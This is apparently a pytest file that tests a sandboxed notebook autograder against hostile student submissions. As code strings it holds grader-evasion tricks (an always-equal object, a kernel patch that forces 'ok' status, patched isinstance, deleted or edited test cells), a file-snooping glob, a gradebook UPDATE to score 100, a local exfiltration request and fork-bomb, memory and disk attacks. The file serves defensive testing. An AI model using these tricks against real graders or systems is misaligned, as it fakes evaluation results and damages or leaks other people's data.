"""Hostile submissions: each trick earns no undeserved point, the batch completes, and honest
learners graded in the same run keep their exact scores."""

from __future__ import annotations

import http.server
import re
import threading
from pathlib import Path

import nbformat
import pytest

from pmtech import nbcells
from pmtech.grading.batch import grade_assignment
from pmtech.grading.sandbox import why_not_confined

from .nbhelpers import fill, grade_id, make_course, solutions_of, total_scores

ASSIGNMENT = "01-working-with-engineers"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(why_not_confined() is not None, reason=str(why_not_confined())),
]

ANY_VALUE = """
class Anything(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __getitem__(self, i): return "spec" if i == 0 else "launch"
    def __hash__(self): return 0
anything = Anything()
"""


def is_answer(cell) -> bool:
    return (grade_id(cell) or "").endswith("-answer")


def is_code_test(cell) -> bool:
    return nbcells.is_test(cell) and cell.cell_type == "code"


def forge_every_answer(release, header: str):
    """Every answer returns an object equal to anything, after ``header`` runs."""
    nb = nbformat.from_dict(release)
    first = True
    for cell in nb.cells:
        if not is_answer(cell):
            continue
        match = re.search(r"def (\w+)\(", cell.source)
        if match:
            body = f"def {match.group(1)}(*args, **kwargs):\n    return (anything, anything)\n"
            if "next_step" in match.group(1):
                body = f"def {match.group(1)}(*args, **kwargs):\n    return anything\n"
        else:
            var = cell.source.split("=")[0].strip()
            body = f"{var} = anything\n"
        cell.source = (header + ANY_VALUE if first else "") + body
        first = False
    return nb


def with_first_answer(nb, code: str):
    nb = nbformat.from_dict(nb)
    answer = next(c for c in nb.cells if is_answer(c))
    answer.source = code + "\n" + answer.source
    return nb


def hostile_notebooks(release, answers, course: Path, port: int) -> dict:
    full = fill(release, answers)
    tests_edited = nbformat.from_dict(release)
    for cell in tests_edited.cells:
        if is_code_test(cell):
            cell.source = "pass"
    tests_deleted = nbformat.from_dict(release)
    tests_deleted.cells = [c for c in tests_deleted.cells if not is_code_test(c)]
    duplicated = nbformat.from_dict(release)
    cells = []
    for cell in duplicated.cells:
        if is_code_test(cell):
            fake = nbformat.from_dict(cell)
            fake.source = "pass"
            cells.append(fake)
        cells.append(cell)
    duplicated.cells = cells
    split = nbformat.from_dict(release)
    cells = []
    for cell in split.cells:
        if is_code_test(cell) and "\n" in cell.source:
            first, rest = cell.source.split("\n", 1)
            tail = nbformat.v4.new_code_cell(rest)
            cell.source = first
            cells += [cell, tail]
        else:
            cells.append(cell)
    split.cells = cells
    retyped = nbformat.from_dict(release)
    for cell in retyped.cells:
        if is_code_test(cell):
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    kernel_patch = (
        "_k = get_ipython().kernel\n_real = _k.do_execute\n"
        "async def _always_ok(code, silent, *args, **kwargs):\n"
        "    try:\n        await _real(code, True, *args, **kwargs)\n"
        "    except BaseException:\n        pass\n"
        "    return {'status': 'ok', 'execution_count': 1, 'payload': [], "
        "'user_expressions': {}}\n"
        "_k.do_execute = _always_ok\n"
        "get_ipython().showtraceback = lambda *a, **k: None\n"
    )
    remove_guard = (
        "import builtins\n"
        "for _name in [n for n in vars(builtins) if n.startswith('_pmtech')]:\n"
        "    delattr(builtins, _name)\n"
    )
    snoop = (
        "import glob\nfound = []\n"
        f"for pattern in ['{course}/source/**/*', '{course}/submitted/**/*', "
        "'/submission/*.ipynb', '*.ipynb', '../**/*.ipynb']:\n"
        "    for path in glob.glob(pattern, recursive=True):\n"
        "        try:\n            found.append(open(path).read())\n"
        "        except Exception:\n            pass\n"
        "print('SNOOPED', len(found), ''.join(found)[:5000])\n"
    )
    tamper_db = (
        "import sqlite3\n"
        f"conn = sqlite3.connect('{course}/gradebook.db')\n"
        "conn.execute('UPDATE grade SET auto_score = 100')\nconn.commit()\n"
    )
    exfiltrate = (
        "import urllib.request\n"
        f"urllib.request.urlopen('http://127.0.0.1:{port}/stolen', timeout=3)\n"
    )
    fork_bomb = "import os\nwhile True:\n    os.fork()\n"
    memory_hog = "hog = []\nwhile True:\n    hog.append(bytearray(100 * 1024 * 1024))\n"
    disk_filler = (
        "with open('big.bin', 'wb') as f:\n    while True:\n"
        "        f.write(b'x' * (64 * 1024 * 1024))\n"
    )
    return {
        "honest-full": full,
        "honest-blank": release,
        "traceback-hidden": forge_every_answer(
            release, "get_ipython().showtraceback = lambda *a, **k: None\n"
        ),
        "kernel-patched": forge_every_answer(release, kernel_patch),
        "guard-removed": forge_every_answer(release, remove_guard),
        "builtins-patched": forge_every_answer(
            release, "import builtins\nbuiltins.isinstance = lambda *a: True\n"
        ),
        "builtins-shadowed": forge_every_answer(release, "def isinstance(*a): return True\n"),
        "fake-passed-output": with_first_answer(release, "print('All tests passed!')"),
        "tests-edited": tests_edited,
        "tests-deleted": tests_deleted,
        "tests-duplicated": duplicated,
        "tests-split": split,
        "tests-retyped": retyped,
        "snoop-files": with_first_answer(release, snoop),
        "tamper-gradebook": with_first_answer(release, tamper_db),
        "exfiltrate": with_first_answer(release, exfiltrate),
        "fork-bomb": with_first_answer(full, fork_bomb),
        "memory-hog": with_first_answer(full, memory_hog),
        "disk-filler": with_first_answer(full, disk_filler),
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = tmp_path_factory.mktemp("hostile")
    name, release, source = make_course(course, ASSIGNMENT)
    answers = solutions_of(source)

    hits = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    notebooks = hostile_notebooks(release, answers, course, server.server_address[1])
    for student, nb in notebooks.items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / name)
    summary = grade_assignment(course, ASSIGNMENT, jobs=2, cell_timeout=8, notebook_budget=20)
    server.shutdown()
    return course, summary, hits, list(notebooks)


FULL = 15.0
ZERO_TRICKS = [
    "traceback-hidden",
    "kernel-patched",
    "guard-removed",
    "builtins-patched",
    "builtins-shadowed",
    "fake-passed-output",
    "tests-edited",
    "tests-deleted",
    "tests-duplicated",
    "tests-split",
    "tests-retyped",
    "snoop-files",
    "tamper-gradebook",
    "exfiltrate",
]


def test_the_batch_completes_and_honest_learners_keep_their_exact_scores(graded):
    course, summary, _, students = graded
    graded_or_failed = {o.student for o in summary.graded + summary.failed}
    assert graded_or_failed == set(students)
    scores = total_scores(course)
    assert scores["honest-full"] == FULL
    assert scores["honest-blank"] == 0


@pytest.mark.parametrize("student", ZERO_TRICKS)
def test_a_trick_on_a_blank_answer_earns_nothing(graded, student):
    course, _, _, _ = graded
    assert total_scores(course).get(student, 0) == 0, f"{student} earned points without solving"


@pytest.mark.parametrize("student", ["fork-bomb", "memory-hog", "disk-filler"])
def test_a_resource_attack_is_stopped_scored_zero_for_what_it_broke_and_named(graded, student):
    course, summary, _, _ = graded
    score = total_scores(course)[student]
    assert 0 < score < FULL  # the broken answer scores 0; the honest rest still counts
    named = {o.student: o.timeouts for o in summary.graded}
    assert named.get(student), f"{student} is not named in the summary: {summary.lines()}"


def test_nothing_of_the_course_is_readable_and_nothing_leaves_the_sandbox(graded):
    course, _, hits, _ = graded
    (snooped,) = (course / "autograded" / "snoop-files" / ASSIGNMENT).glob("*.ipynb")
    text = snooped.read_text()
    printed = re.search(r"SNOOPED (\d+)", text)
    assert printed and printed.group(1) == "0", "the submission could read course files"
    assert hits == [], "a submission reached a server on the grader's network"
    (removed,) = (course / "autograded" / "guard-removed" / ASSIGNMENT).glob("*.ipynb")
    assert "GraderTampered" in removed.read_text()  # the grader noticed, and says so
